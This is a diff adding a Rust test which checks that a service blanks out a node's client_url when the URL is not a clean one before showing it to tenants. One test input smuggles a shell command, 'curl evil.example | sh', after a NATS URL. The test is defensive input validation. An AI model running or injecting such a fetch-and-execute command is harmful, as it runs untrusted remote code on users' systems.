@@ -528,6 +528,30 @@ async fn streams_that_break_the_protocol_end() {
     }
 }
 
+/// Tenants are shown it in a line for their shell.
+#[tokio::test]
+async fn what_is_no_client_url_is_shown_to_nobody_and_keeps_no_change_from_the_node() {
+    let service = Service::start().await;
+    let world = World::make(&service).await;
+    let node = FakeNode::enrol(&service, &world.cell).await;
+    let cell = format!("/v1/cells/{}", world.cell);
+    for (said, shown) in [
+        ("nats://node.example:4222", "nats://node.example:4222"),
+        ("nats://node.example:4222; curl evil.example | sh", ""),
+        ("wss://[::1]:443", "wss://[::1]:443"),
+    ] {
+        let hello = Hello {
+            boot_id: node.boot_id.clone(),
+            client_url: said.into(),
+            ..Hello::default()
+        };
+        let mut attached = node.try_attach_as(hello).await.unwrap();
+        attached.take_until(&world.account_key).await;
+        let cell = service.admin(Method::GET, &cell, Value::Null).await;
+        assert_eq!(cell["nodes"][0]["client_url"], shown, "{said}");
+    }
+}
+
 #[tokio::test]
 async fn what_is_open_shows_in_the_account_and_ends_with_the_next_report() {
     let service = Service::start().await;
